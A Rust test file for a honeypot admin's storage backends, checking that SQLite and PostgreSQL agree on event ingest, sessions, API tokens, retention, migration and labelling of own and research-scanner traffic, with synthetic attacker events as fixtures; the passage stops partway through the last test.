//! Conformance tests of the [`Storage`] contract. Each check takes a `&dyn Storage`, so every
//! backend runs the same checks: add a backend to [`backends`]. PostgreSQL runs on a throwaway
//! server ([`crate::testpg`]); without PostgreSQL installed those runs are skipped, unless
//! `DROSERA_REQUIRE_CLIENTS=1` (CI), where they fail.
//!
//! A new [`Storage`] method gets its check here, written once against the trait.

use super::*;
use crate::sensors;
use drosera_uplink::event::{CloseReason, Detail, Priority, Protocol, Transport};

/// A fresh, empty database of every backend (with what keeps it alive).
/// PostgreSQL folds only rows of transactions older than the oldest one still running in the
/// whole server (see `storage::postgres`). `postgres_fold_never_skips_an_event_that_commits_late`
/// keeps a transaction open on purpose; while it does, every other test's fold on the shared test
/// server rightly waits, so those tests hold this lock for reading and that one for writing.
static PG_OPEN_TRANSACTION: std::sync::RwLock<()> = std::sync::RwLock::new(());

/// What a test keeps alive while it uses a backend: its directory and, for PostgreSQL, its share
/// of the server.
struct Held {
    _dir: tempfile::TempDir,
    _pg: Option<std::sync::RwLockReadGuard<'static, ()>>,
}

/// A SQLite backend's directory: no share of the PostgreSQL server. Only the PostgreSQL entry
/// takes the read lock, so a test never holds two read guards at once: std's `RwLock` lets a
/// waiting writer block new readers, and a second `read()` behind the open-transaction test's
/// `write()` deadlocked (`password_recovery` hung that way).
fn held(dir: tempfile::TempDir) -> Held {
    Held { _dir: dir, _pg: None }
}

/// A PostgreSQL backend's directory and its share of the server.
fn held_pg(dir: tempfile::TempDir) -> Held {
    Held { _dir: dir, _pg: Some(PG_OPEN_TRANSACTION.read().unwrap_or_else(|p| p.into_inner())) }
}

fn backends() -> Vec<(Box<dyn Storage>, Held)> {
    let dir = tempfile::tempdir().unwrap();
    let sqlite = sqlite::open(&dir.path().join("a.db")).unwrap();
    let mut v: Vec<(Box<dyn Storage>, Held)> = vec![(Box::new(sqlite), held(dir))];
    if let Some(url) = crate::testpg::fresh_database() {
        v.push((Box::new(postgres::Postgres::open(&url).unwrap()), held_pg(tempfile::tempdir().unwrap())));
    }
    v
}

fn ev(seq: u64) -> Event {
    Event {
        seq,
        time_ms: 1_700_000_000_000,
        sensor: "liar".into(),
        transport: Transport::Tcp,
        protocol: Protocol::Http,
        src_ip: "198.51.100.9".parse().unwrap(),
        src_port: 5,
        dst_port: 80,
        session_id: seq,
        duration_ms: 1,
        bytes_in: 1,
        bytes_out: 1,
        priority: Priority::Noise,
        detail: Detail::Connection { first_bytes: vec![], closed_by: CloseReason::ClientClosed },
    }
}

fn commit(db: &dyn Storage, sensor_id: i64, last_seq: u64, events: &[Event]) -> BatchOutcome {
    let mut out = db.commit_batches(&[BatchIn { sensor_id, last_seq, events }], 1).unwrap();
    assert_eq!(out.len(), 1);
    out.remove(0)
}

fn store_batch_is_exactly_once_and_keeps_health(db: &dyn Storage) {
    sensors::register(db, "pi", "aa", 0).unwrap();
    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
    let mut gap = ev(4);
    gap.detail = Detail::EvictionGap {
        count: 7,
        first_seq: 1,
        last_seq: 7,
        first_time_ms: 0,
        last_time_ms: 0,
        per_protocol: vec![],
        per_priority: vec![],
    };
    let mut health = ev(5);
    health.detail = Detail::Health(drosera_uplink::event::Health { backlog_events: 12, ..Default::default() });
    let batch = vec![ev(1), ev(2), ev(3), gap, health];
    for _ in 0..2 {
        assert_eq!(commit(db, id, 5, &batch), BatchOutcome::Ack(5));
    }
    // Overlapping resend with one new event.
    assert_eq!(commit(db, id, 6, &[ev(5), ev(6)]), BatchOutcome::Ack(6));
    let l = sensors::list(db).unwrap();
    assert_eq!(l[0].events, 6);
    assert_eq!((l[0].high_water_seq, l[0].evicted_total), (6, 7));
    assert_eq!(l[0].health.as_ref().unwrap().backlog_events, 12);
    sensors::revoke(db, "pi").unwrap();
    assert!(matches!(commit(db, id, 7, &[ev(7)]), BatchOutcome::Refused(_)));
}

fn a_failed_group_stores_nothing(db: &dyn Storage) {
    sensors::register(db, "pi", "aa", 0).unwrap();
    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
    let (one, two) = ([ev(1)], [ev(1)]);
    let group = [
        BatchIn { sensor_id: id, last_seq: 1, events: &one },
        BatchIn { sensor_id: id + 1000, last_seq: 1, events: &two },
    ];
    assert!(db.commit_batches(&group, 1).is_err(), "a batch of an unknown sensor fails the group");
    let l = sensors::list(db).unwrap();
    assert_eq!((l[0].events, l[0].high_water_seq), (0, 0), "the other batch of the group was rolled back");
    assert_eq!(commit(db, id, 1, &one), BatchOutcome::Ack(1));
}

fn group_commit_answers_each_batch_in_order(db: &dyn Storage) {
    for name in ["a", "b"] {
        sensors::register(db, name, "cc", 0).unwrap();
    }
    let a = db.enrollment("a").unwrap().unwrap().sensor_id;
    let b = db.enrollment("b").unwrap().unwrap().sensor_id;
    let (a1, b1, a2) = ([ev(1), ev(2)], [ev(1)], [ev(3)]);
    let group = [
        BatchIn { sensor_id: a, last_seq: 2, events: &a1 },
        BatchIn { sensor_id: b, last_seq: 1, events: &b1 },
        BatchIn { sensor_id: a, last_seq: 2, events: &a1 },
        BatchIn { sensor_id: a, last_seq: 3, events: &a2 },
    ];
    let out = db.commit_batches(&group, 1).unwrap();
    use BatchOutcome::Ack;
    assert_eq!(out, vec![Ack(2), Ack(1), Ack(2), Ack(3)]);
    let l = sensors::list(db).unwrap();
    assert_eq!((l[0].name.as_str(), l[0].events, l[1].events), ("a", 3, 1));
}

#[test]
fn exactly_once() {
    for (db, _dir) in backends() {
        store_batch_is_exactly_once_and_keeps_health(&*db);
    }
}

#[test]
fn failed_group() {
    for (db, _dir) in backends() {
        a_failed_group_stores_nothing(&*db);
    }
}

#[test]
fn group_order() {
    for (db, _dir) in backends() {
        group_commit_answers_each_batch_in_order(&*db);
    }
}

// ---------------------------------------------------------------------------------------------
// Everything else the admin does, through the trait, compared between backends.

use crate::analytics::{self, Query};
use drosera_uplink::event::{Health, Secret};

fn login_ev(seq: u64, t: i64, ip: &str, user: &str, pass: &str) -> Event {
    let mut e = ev(seq);
    e.time_ms = t;
    e.protocol = Protocol::Telnet;
    e.dst_port = 23;
    e.src_ip = ip.parse().unwrap();
    e.detail =
        Detail::Login { username: user.into(), secret: Secret::Password(pass.into()), success: false, extra: vec![] };
    e
}

/// Two sensors, three days, logins, connections, a payload, a rollup and a health sample.
fn load_fixture(db: &dyn Storage) {
    const T0: i64 = 1_714_521_600_000;
    const H: i64 = 3_600_000;
    for (name, n) in [("pi-a", 40u64), ("pi-b", 25)] {
        sensors::register(db, name, "ab", 0).unwrap();
        let id = db.enrollment(name).unwrap().unwrap().sensor_id;
        let mut evs = Vec::new();
        for seq in 1..=n {
            let t = T0 + (seq as i64 % 60) * H + seq as i64;
            let ip = format!("203.0.113.{}", seq % 7 + 1);
            evs.push(match seq % 5 {
                0 => login_ev(seq, t, &ip, "root", if seq % 2 == 0 { "xc3511" } else { "admin" }),
                1 => {
                    let mut e = ev(seq);
                    e.time_ms = t;
                    e.detail = Detail::Payload {
                        sha256: [seq as u8; 32],
                        size: seq,
                        name: "x".into(),
                        prefix: b"#!".to_vec(),
                        truncated: false,
                    };
                    e
                }
                2 if seq == 7 => {
                    let mut e = ev(seq);
                    e.time_ms = t;
                    e.protocol = Protocol::Sensor;
                    e.detail = Detail::Health(Health { backlog_events: 3, ..Default::default() });
                    e
                }
                _ => {
                    let mut e = ev(seq);
                    e.time_ms = t;
                    e.src_ip = ip.parse().unwrap();
                    e
                }
            });
        }
        // Two batches and a resend of the first.
        let (a, b) = evs.split_at(evs.len() / 2);
        let a_last = a.last().unwrap().seq;
        for (batch, last) in [(a, a_last), (b, n), (a, a_last)] {
            assert!(matches!(commit(db, id, last, batch), BatchOutcome::Ack(_)));
        }
    }
}

fn report_json(db: &mut dyn Storage) -> String {
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    analytics::refresh(db, &en).unwrap();
    let q = Query {
        since_ms: Some(1_714_000_000_000),
        until_ms: Some(1_715_000_000_000),
        sensor: None,
        ..Default::default()
    };
    let mut r = serde_json::to_value(analytics::report(&*db, &q, 0, 50).unwrap()).unwrap();
    // Contact times come from the clock of the commit.
    if let Some(v) = r.get_mut("generated_ms") {
        *v = serde_json::Value::Null;
    }
    r.to_string()
}

fn export_text(db: &dyn Storage) -> (u64, String) {
    let q = Query { since_ms: Some(0), until_ms: Some(i64::MAX / 2), sensor: None, ..Default::default() };
    let mut out = Vec::new();
    let n = crate::export::export(db, &q, crate::export::Format::EventsJsonl, &mut out).unwrap();
    // The attacks (folded from the same cursor) come after the events: never more rows than
    // events (equal when every event is its own connection).
    let m = crate::export::export(db, &q, crate::export::Format::Jsonl, &mut out).unwrap();
    assert!(m > 0 && m <= n, "{m} attacks from {n} events");
    (n, String::from_utf8(out).unwrap())
}

/// The drill-down reads (issue 21) of the fixture: an attacker, a session, searches.
fn drill_json(db: &dyn Storage) -> serde_json::Value {
    const CAPS: analytics::DrillConfig = analytics::DrillConfig::DEFAULTS;
    let q = Query { since_ms: Some(1_714_000_000_000), until_ms: Some(1_715_000_000_000), ..Default::default() };
    let a = analytics::attacker(db, &q, "203.0.113.1", 1, &CAPS).unwrap().unwrap();
    assert!(a.events > 0 && !a.credentials.is_empty(), "{a:?}");
    let s = &a.sessions[0];
    let session = analytics::session(db, &s.sensor, s.session_id, &CAPS).unwrap().unwrap();
    assert_eq!(session.events.len() as i64, s.events);
    let searches: Vec<_> = ["203.0.113.0/24", "root", "xc3511", "pi-a", "telnet", "2001:db8::/32"]
        .iter()
        .map(|t| analytics::search(db, &q, t, &CAPS).unwrap())
        .collect();
    assert_eq!(searches[0].hits.len(), 7, "{:?}", searches[0]);
    serde_json::json!({ "attacker": a, "session": session, "searches": searches })
}

#[test]
fn every_backend_gives_the_same_report_and_export() {
    let mut results = Vec::new();
    for (mut db, _dir) in backends() {
        load_fixture(&*db);
        let report = report_json(&mut *db);
        // Folding again finds nothing new and changes nothing.
        assert_eq!(report_json(&mut *db), report);
        let (n, text) = export_text(&*db);
        assert_eq!(n, 65);
        let list = sensors::list(&*db).unwrap();
        assert_eq!(list.iter().map(|s| s.events).sum::<u64>(), 65);
        assert_eq!(list[0].health.as_ref().map(|h| h.backlog_events), Some(3));
        results.push((report, text, drill_json(&*db)));
    }
    for r in &results[1..] {
        assert_eq!(r.0, results[0].0, "report differs between backends");
        assert_eq!(r.1, results[0].1, "export differs between backends");
        assert_eq!(r.2, results[0].2, "drill-down differs between backends");
    }
}

#[test]
fn users_and_sessions() {
    for (db, _dir) in backends() {
        assert!(db.upsert_user("alice", "phc1", 1).unwrap());
        let s = NewSession { token_sha256: "t1", user: "alice", csrf: "c1", expires_ms: 100 };
        db.create_session(&s, 10, 1000).unwrap();
        assert_eq!(db.session("t1", 50).unwrap(), Some(SessionRecord { user: "alice".into(), csrf: "c1".into() }));
        assert_eq!(db.session("t1", 100).unwrap(), None, "expired");
        // A new password ends the sessions.
        assert!(!db.upsert_user("alice", "phc2", 2).unwrap());
        assert_eq!(db.user_phc("alice").unwrap().as_deref(), Some("phc2"));
        assert_eq!(db.session("t1", 50).unwrap(), None);
        // At most max_sessions are kept, the oldest go first.
        for (i, t) in ["a", "b", "c"].iter().enumerate() {
            let s = NewSession { token_sha256: t, user: "alice", csrf: "c", expires_ms: 1000 + i as i64 };
            db.create_session(&s, 10, 2).unwrap();
        }
        assert_eq!(db.session("a", 10).unwrap(), None);
        assert!(db.session("b", 10).unwrap().is_some() && db.session("c", 10).unwrap().is_some());
        db.end_session("c").unwrap();
        assert_eq!(db.session("c", 10).unwrap(), None);
        assert_eq!(db.user_phc("bob").unwrap(), None);
    }
}

#[test]
fn api_tokens_live_capped_and_revoked() {
    for (db, _dir) in backends() {
        db.upsert_user("alice", "phc1", 1).unwrap();
        let t = |id: &'static str, hash: &'static str, at: i64| NewApiToken {
            id,
            user: "alice",
            name: "ci",
            token_sha256: hash,
            created_ms: at,
        };
        assert!(db.create_api_token(&t("i1", "h1", 10), 2).unwrap());
        assert!(db.create_api_token(&t("i2", "h2", 20), 2).unwrap());
        assert!(!db.create_api_token(&t("i3", "h3", 30), 2).unwrap(), "at the cap");
        assert_eq!(db.api_token_user("h1", 100_000).unwrap().as_deref(), Some("alice"));
        assert_eq!(db.api_token_user("h9", 100_000).unwrap(), None);
        let list = db.api_tokens("alice").unwrap();
        assert_eq!(list.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(), ["i2", "i1"], "newest first");
        assert_eq!((list[1].last_used_ms, list[0].last_used_ms), (100_000, 0));
        // A use within a minute of the last one writes nothing.
        db.api_token_user("h1", 130_000).unwrap();
        assert_eq!(db.api_tokens("alice").unwrap()[1].last_used_ms, 100_000);
        assert!(!db.revoke_api_token("bob", "i1", 5).unwrap());
        assert!(db.revoke_api_token("alice", "i1", 5).unwrap());
        assert!(!db.revoke_api_token("alice", "i1", 6).unwrap());
        assert_eq!(db.api_token_user("h1", 200_000).unwrap(), None);
        assert_eq!(db.api_tokens("alice").unwrap()[1].revoked_ms, 5);
        assert!(db.create_api_token(&t("i3", "h3", 30), 2).unwrap(), "a revoked token frees its place");
        assert!(db.api_tokens("bob").unwrap().is_empty());
    }
}

#[test]
fn enrollment_and_revocation() {
    for (db, _dir) in backends() {
        assert_eq!(db.register_sensor("pi", "aa", 1).unwrap(), Registered::Enrolled);
        assert_eq!(db.register_sensor("pi", "bb", 2).unwrap(), Registered::AlreadyActive);
        assert!(db.revoke_sensor("pi").unwrap());
        assert!(!db.revoke_sensor("nope").unwrap());
        assert!(db.enrollment("pi").unwrap().unwrap().revoked);
        assert_eq!(db.register_sensor("pi", "cc", 3).unwrap(), Registered::Enrolled);
        let e = db.enrollment("pi").unwrap().unwrap();
        assert_eq!((e.revoked, e.cert_sha256.as_str()), (false, "cc"));
        db.record_hello(e.sensor_id, 4, 77).unwrap();
        let l = db.list_sensors().unwrap();
        assert_eq!((l[0].schema_version, l[0].last_contact_ms), (4, Some(77)));
        db.touch_sensors(&[e.sensor_id], 88).unwrap();
        assert_eq!(db.list_sensors().unwrap()[0].last_contact_ms, Some(88));
        assert_eq!(db.sensor_id("pi").unwrap(), Some(e.sensor_id));
    }
}

#[test]
fn retention_deletes_only_folded_events_and_keeps_daily_rollups() {
    const DAY: i64 = DAY_MS;
    let t0 = 1_714_521_600_000; // a day boundary
    for (mut db, _dir) in backends() {
        sensors::register(&*db, "pi", "aa", 0).unwrap();
        let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
        let evs: Vec<Event> = (1..=30u64)
            .map(|s| {
                let mut e = ev(s);
                e.time_ms = t0 + (s as i64 - 1) / 10 * DAY + 1000;
                e
            })
            .collect();
        assert_eq!(commit(&*db, id, 30, &evs), BatchOutcome::Ack(30));
        // Nothing folded yet: nothing may go.
        assert_eq!(db.delete_events_before(t0 + 2 * DAY, 1000).unwrap(), 0);
        let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
        assert_eq!(analytics::refresh(&mut *db, &en).unwrap(), 30);
        let mut gone = 0;
        loop {
            let n = db.delete_events_before(t0 + 2 * DAY, 1000).unwrap();
            gone += n;
            if n < 1000 {
                break;
            }
        }
        assert_eq!(gone, 20, "the first two days");
        assert_eq!(db.oldest_event_ms().unwrap(), Some(t0 + 2 * DAY + 1000));
        assert_eq!(db.list_sensors().unwrap()[0].events, 10);
        // The size cap never takes the newest events.
        while db.delete_oldest_events(1000).unwrap() > 0 {}
        assert!(db.list_sensors().unwrap()[0].events >= 1);
        assert!(db.prune_hourly(t0 + 2 * DAY).unwrap() > 0);
        assert_eq!(db.hourly_from().unwrap(), t0 + 2 * DAY);
        db.prune_hourly(t0).unwrap();
        assert_eq!(db.hourly_from().unwrap(), t0 + 2 * DAY, "the mark never moves back");
        // Day rows keep the totals of the deleted events.
        let q = Query { since_ms: Some(t0), until_ms: Some(t0 + 3 * DAY), sensor: None, ..Default::default() };
        let t = analytics::totals(&*db, &q).unwrap();
        assert_eq!(t.attempts, 30);
        assert!(db.prune_rollups(t0 + 10 * DAY).unwrap() > 0);
        assert_eq!(analytics::totals(&*db, &q).unwrap().attempts, 0);
        assert!(db.used_bytes().unwrap() > 0);
    }
}

/// The admin's PostgreSQL sessions run without JIT compilation; `options` in the URL come
/// after the admin's own and win.
#[test]
fn postgres_sessions_run_without_jit_unless_the_url_says_so() {
    let _pg = PG_OPEN_TRANSACTION.read().unwrap_or_else(|p| p.into_inner());
    let Some(url) = crate::testpg::fresh_database() else { return };
    let db = postgres::Postgres::open(&url).unwrap();
    assert_eq!(db.setting("jit").unwrap(), "off");
    let db = postgres::Postgres::open(&format!("{url}?options=-c%20jit%3Don")).unwrap();
    assert_eq!(db.setting("jit").unwrap(), "on");
}

#[test]
fn migrate_moves_every_table_from_sqlite_to_postgres() {
    let _pg = PG_OPEN_TRANSACTION.read().unwrap_or_else(|p| p.into_inner());
    let Some(url) = crate::testpg::fresh_database() else { return };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("old.db");
    let mut old: Box<dyn Storage> = Box::new(sqlite::open(&path).unwrap());
    load_fixture(&*old);
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    analytics::refresh(&mut *old, &en).unwrap();
    // Events stored after the last fold must be folded after the move, once.
    let id = old.enrollment("pi-a").unwrap().unwrap().sensor_id;
    let late: Vec<Event> =
        (41..=45).map(|s| login_ev(s, 1_714_600_000_000 + s as i64, "192.0.2.1", "u", "p")).collect();
    assert_eq!(commit(&*old, id, 45, &late), BatchOutcome::Ack(45));
    old.upsert_user("alice", "phc", 1).unwrap();
    let s = NewSession { token_sha256: "tok", user: "alice", csrf: "c", expires_ms: i64::MAX };
    old.create_session(&s, 1, 10).unwrap();
    let t = NewApiToken { id: "i1", user: "alice", name: "n", token_sha256: "th", created_ms: 1 };
    assert!(old.create_api_token(&t, 5).unwrap());
    old.prune_hourly(1_714_521_600_000 - DAY_MS).unwrap();
    crate::labels::add(&*old, "192.0.2.1", &crate::labels::Label::SelfTest, "desk", 10, 7).unwrap();
    analytics::relabel(&mut *old, &en).unwrap();
    old.set_raw_from(1_714_000_000_000).unwrap();
    assert_eq!(old.store_sample(&new_sample([0xaa; 32], 100, Some("Mirai")), 0, 5).unwrap(), SampleStored::Stored);
    old.record_sample_rejection(id, &hex::encode([0xbb; 32]), "mismatch", 6, 10).unwrap();
    drop(old);

    let from = Backend::Sqlite(path.clone());
    let to = Backend::Postgres(url.clone());
    let stats = copy::migrate(&from, &to).unwrap();
    let count = |t: &str| stats.tables.iter().find(|x| x.0 == t).map(|x| x.1).unwrap();
    assert_eq!((count("events"), count("sensors"), count("users"), count("dashboard_sessions")), (70, 2, 1, 1));
    assert!(count("agg_src") > 0 && count("ip_info") > 0 && count("strings") > 0);
    // A second migration into the same (now full) database is refused.
    assert!(copy::migrate(&from, &to).unwrap_err().to_string().contains("not empty"));

    let mut old = open_backend(&from).unwrap();
    let mut new = open_backend(&to).unwrap();
    assert_eq!(report_json(&mut *new), report_json(&mut *old), "same report after the move");
    assert_eq!(export_text(&*new), export_text(&*old));
    assert_eq!(new.list_sensors().unwrap(), old.list_sensors().unwrap());
    assert_eq!(new.session("tok", 2).unwrap().map(|s| s.user).as_deref(), Some("alice"));
    assert_eq!(new.api_tokens("alice").unwrap(), old.api_tokens("alice").unwrap());
    assert_eq!(new.api_token_user("th", 2).unwrap().as_deref(), Some("alice"));
    assert_eq!(new.hourly_from().unwrap(), 1_714_521_600_000 - DAY_MS);
    assert_eq!(new.labels().unwrap(), old.labels().unwrap());
    assert_eq!(new.labels().unwrap().len(), 1);
    assert_eq!(new.raw_from().unwrap(), 1_714_000_000_000);
    let sha = hex::encode([0xaa; 32]);
    assert_eq!(new.sample_detail(&sha, 10).unwrap(), old.sample_detail(&sha, 10).unwrap());
    assert!(new.sample_detail(&sha, 10).unwrap().is_some());
    assert_eq!(new.sample_rejections(10).unwrap(), old.sample_rejections(10).unwrap());
    new.record_sample_rejection(id, &sha, "after the move", 7, 10).unwrap();
    // Ingest goes on where SQLite stopped: the high-water mark moved with the sensor.
    let more = [login_ev(46, 1_714_600_100_000, "192.0.2.1", "u", "p")];
    assert_eq!(commit(&*new, id, 45, &late), BatchOutcome::Ack(45));
    assert_eq!(commit(&*new, id, 46, &more), BatchOutcome::Ack(46));
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    assert_eq!(analytics::refresh(&mut *new, &en).unwrap(), 1);
}

/// Where each backend's database lives, so a test can open several handles on it (as several
/// admins, or the ingest writer and the dashboard of one, do).
fn backend_locations() -> Vec<(Backend, Held)> {
    let dir = tempfile::tempdir().unwrap();
    let mut v = vec![(Backend::Sqlite(dir.path().join("a.db")), held(dir))];
    if let Some(url) = crate::testpg::fresh_database() {
        v.push((Backend::Postgres(url), held_pg(tempfile::tempdir().unwrap())));
    }
    v
}

#[test]
fn two_admins_ingesting_one_sensor_store_each_batch_once() {
    for (loc, _dir) in backend_locations() {
        let first = open_backend(&loc).unwrap();
        sensors::register(&*first, "pi", "aa", 0).unwrap();
        let id = first.enrollment("pi").unwrap().unwrap().sensor_id;
        drop(first);
        let events: Vec<Event> = (1..=200).map(ev).collect();
        // Both "admins" get every batch (a sensor that failed over and resent), in parallel.
        let threads: Vec<_> = (0..2)
            .map(|_| {
                let (loc, events) = (loc.clone(), events.clone());
                std::thread::spawn(move || {
                    let db = open_backend(&loc).unwrap();
                    for chunk in events.chunks(10) {
                        let last = chunk.last().unwrap().seq;
                        let out = db.commit_batches(&[BatchIn { sensor_id: id, last_seq: last, events: chunk }], 1);
                        assert!(matches!(out.unwrap()[0], BatchOutcome::Ack(n) if n >= last));
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        let db = open_backend(&loc).unwrap();
        let l = db.list_sensors().unwrap();
        assert_eq!((l[0].events, l[0].high_water_seq), (200, 200), "{loc:?}");
        let (n, text) = export_text(&*db);
        assert_eq!(n, 200);
        // The per-event rows (the attack rows follow them).
        let mut seqs: Vec<i64> = text
            .lines()
            .take(n as usize)
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["seq"].as_i64().unwrap())
            .collect();
        seqs.sort_unstable();
        seqs.dedup();
        assert_eq!(seqs.len(), 200, "no sequence number stored twice");
    }
}

#[test]
fn postgres_fold_never_skips_an_event_that_commits_late() {
    let _alone = PG_OPEN_TRANSACTION.write().unwrap_or_else(|p| p.into_inner());
    let Some(url) = crate::testpg::fresh_database() else { return };
    let db = postgres::Postgres::open(&url).unwrap();
    sensors::register(&db, "pi", "aa", 0).unwrap();
    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
    assert_eq!(commit(&db, id, 1, &[ev(1)]), BatchOutcome::Ack(1));
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    let mut folder: Box<dyn Storage> = Box::new(postgres::Postgres::open(&url).unwrap());
    assert_eq!(analytics::refresh(&mut *folder, &en).unwrap(), 1);
    // A writer that takes a low id and commits late: its transaction starts first and stays open
    // while a later batch (a higher id) commits.
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let (client, conn) = rt.block_on(tokio_postgres::connect(&url, tokio_postgres::NoTls)).unwrap();
    rt.spawn(conn);
    rt.block_on(client.batch_execute(&format!(
        "BEGIN; INSERT INTO events (txid, sensor_id, seq, time_ms, transport, protocol, kind, src_ip, src_port,
            dst_port, session_id, duration_ms, bytes_in, bytes_out, priority, count, fields)
         VALUES (pg_current_xact_id()::text::bigint, {id}, 1000, 1700000000000, 'tcp', 'http', 'connection',
            '198.51.100.9', 1, 80, 1, 0, 0, 0, 0, 1, '{{}}')"
    )))
    .unwrap();
    assert_eq!(commit(&db, id, 2, &[ev(2)]), BatchOutcome::Ack(2));
    // The fold must not pass the open transaction (it waits a bounded time, then folds nothing).
    assert_eq!(analytics::refresh(&mut *folder, &en).unwrap(), 0);
    rt.block_on(client.batch_execute("COMMIT")).unwrap();
    assert_eq!(analytics::refresh(&mut *folder, &en).unwrap(), 2, "both, once");
    assert_eq!(analytics::refresh(&mut *folder, &en).unwrap(), 0);
    let q = Query { since_ms: Some(0), until_ms: Some(1_800_000_000_000), sensor: None, ..Default::default() };
    assert_eq!(analytics::totals(&*folder, &q).unwrap().attempts, 3);
}

// ---------------------------------------------------------------------------------------------
// Labels (`crate::labels`): the own-traffic and research-scanner classes.

/// Who sends an event of [`labels_events`].
#[derive(Clone, Copy, PartialEq, Eq)]
enum Who {
    Attacker,
    Own,
    Research,
}

/// Three days of traffic on sensor "pi": attackers (logins and connections on 22/23), our own
/// nmap-like scans from 192.0.2.50 (connections on 21/22/80 and a test login) and a research
/// scanner of the bundled list (Censys: 162.142.125.7 in a listed range, 2602:80d:1000::7 in
/// its listed ASN only), plus a health sample.
/// `part` 0 is the traffic before the label is added, 1 the traffic after.
fn labels_events(part: u8, who: &[Who]) -> Vec<Event> {
    const T0: i64 = 1_714_521_600_000;
    const H: i64 = 3_600_000;
    let mut out = Vec::new();
    for i in 0..60i64 {
        let t = T0 + (i * 7 % 70) * H + i * 1000 + i64::from(part) * 30 * H;
        let w = match i % 4 {
            0 | 1 => Who::Attacker,
            2 => Who::Own,
            _ => Who::Research,
        };
        if !who.contains(&w) {
            continue;
        }
        let ip = match w {
            Who::Attacker => format!("203.0.113.{}", 10 + i % 3),
            Who::Own => "192.0.2.50".to_string(),
            // In a listed range; in the listed ASN only (Censys, through the shipped mmdb).
            Who::Research if i % 8 == 3 => "162.142.125.7".to_string(),
            Who::Research => "2602:80d:1000::7".to_string(),
        };
        let mut e = if i % 3 == 0 {
            let (u, p) = if w == Who::Own { ("test", "test") } else { ("root", "xc3511") };
            login_ev(0, t, &ip, u, p)
        } else {
            let mut e = ev(0);
            e.time_ms = t;
            e.src_ip = ip.parse().unwrap();
            e.dst_port = match (w, i % 3) {
                (Who::Own, 1) => 21,
                (Who::Own, _) => 80,
                (_, 1) => 22,
                _ => 23,
            };
            e
        };
        e.session_id = (i + 1) as u64 + u64::from(part) * 1000;
        out.push(e);
    }
    if part == 0 {
        let mut h = ev(0);
        h.time_ms = T0 + 5 * H;
        h.protocol = Protocol::Sensor;
        h.detail = Detail::Health(Health { backlog_events: 1, ..Default::default() });
        out.push(h);
    }
    out
}

/// Commits `evs` to sensor "pi" (registered on first use), numbered after what it has.
fn commit_next(db: &dyn Storage, evs: Vec<Event>) {
    if db.enrollment("pi").unwrap().is_none() {
        sensors::register(db, "pi", "ab", 0).unwrap();
    }
    let e = db.enrollment("pi").unwrap().unwrap();
    let first = e.high_water_seq as u64 + 1;
    let evs: Vec<Event> = evs
        .into_iter()
        .enumerate()
        .map(|(i, mut x)| {
            x.seq = first + i as u64;
            x
        })
        .collect();
    let last = first + evs.len() as u64 - 1;
    assert_eq!(commit(db, e.sensor_id, last, &evs), BatchOutcome::Ack(last));
}

/// The numbers of a report that must not depend on how the labelled traffic got into the
/// database, and the timeline's non-empty buckets.
fn numbers(db: &mut dyn Storage, include: crate::labels::Include) -> serde_json::Value {
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    analytics::refresh(db, &en).unwrap();
    let q = Query { since_ms: Some(1_714_000_000_000), until_ms: Some(1_715_000_000_000), sensor: None, include };
    let mut r = serde_json::to_value(analytics::report(&*db, &q, 0, 50).unwrap()).unwrap();
    let m = r.as_object_mut().unwrap();
    m.remove("sensors");
    m.remove("labelled");
    // Labels are checked on their own (the references have none of the admin's).
    for row in m["top_sources"]["rows"].as_array_mut().unwrap() {
        row.as_object_mut().unwrap().remove("label");
    }
    let tl = analytics::timeline(&*db, &q).unwrap();
    let buckets: Vec<(i64, i64, i64)> = (0..tl.buckets.len())
        .filter(|i| tl.attempts[*i] != 0 || tl.logins[*i] != 0)
        .map(|i| (tl.buckets[i], tl.attempts[i], tl.logins[i]))
        .collect();
    m.insert("timeline".into(), serde_json::to_value(buckets).unwrap());
    r
}

/// A reference database (SQLite in memory) holding only the traffic of `who`.
fn reference(who: &[Who]) -> Box<dyn Storage> {
    let db: Box<dyn Storage> = Box::new(sqlite::open_in_memory().unwrap());
    commit_next(&*db, labels_events(0, who));
    commit_next(&*db, labels_events(1, who));
    db
}

#[test]
fn labelled_traffic_leaves_the_numbers_and_relabelling_rewrites_history_exactly() {
    use crate::labels::{Include, Label};
    use Who::*;
    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
    let def = Include::default();
    let mut attacks = reference(&[Attacker]);
    let mut attacks_and_own = reference(&[Attacker, Own]);
    let mut everything = reference(&[Attacker, Own, Research]);
    let (want_attacks, want_with_own) = (numbers(&mut *attacks, def), numbers(&mut *attacks_and_own, def));
    let want_all = numbers(&mut *everything, Include::ALL);
    assert_ne!(want_attacks, want_with_own, "the fixture's own traffic must change the numbers");
    for (mut db, _dir) in backends() {
        let db = &mut *db;
        // Before any label: the research scanner (bundled list) is left out already.
        commit_next(db, labels_events(0, &[Attacker, Own, Research]));
        analytics::refresh(db, &en).unwrap();
        // The label comes after its traffic was folded: relabel moves it out of the history.
        let rec = crate::labels::add(db, "192.0.2.50", &Label::SelfTest, "nmap from the desk", 10, 1).unwrap();
        assert_eq!(rec.cidr, "192.0.2.50/32");
        let r = analytics::relabel(db, &en).unwrap();
        assert_eq!(r.kept_before_ms, None);
        assert!(r.events >= 60, "{r:?}");
        // Traffic after the label is folded with it.
        commit_next(db, labels_events(1, &[Attacker, Own, Research]));
        assert_eq!(numbers(db, def), want_attacks, "self and research left out");
        assert_eq!(numbers(db, Include::ALL), want_all, "--include self,research brings both back");
        // Relabelling again changes nothing.
        analytics::relabel(db, &en).unwrap();
        assert_eq!(numbers(db, def), want_attacks);
        // Every attacker row says its label; the labelled traffic is shown apart, exactly.
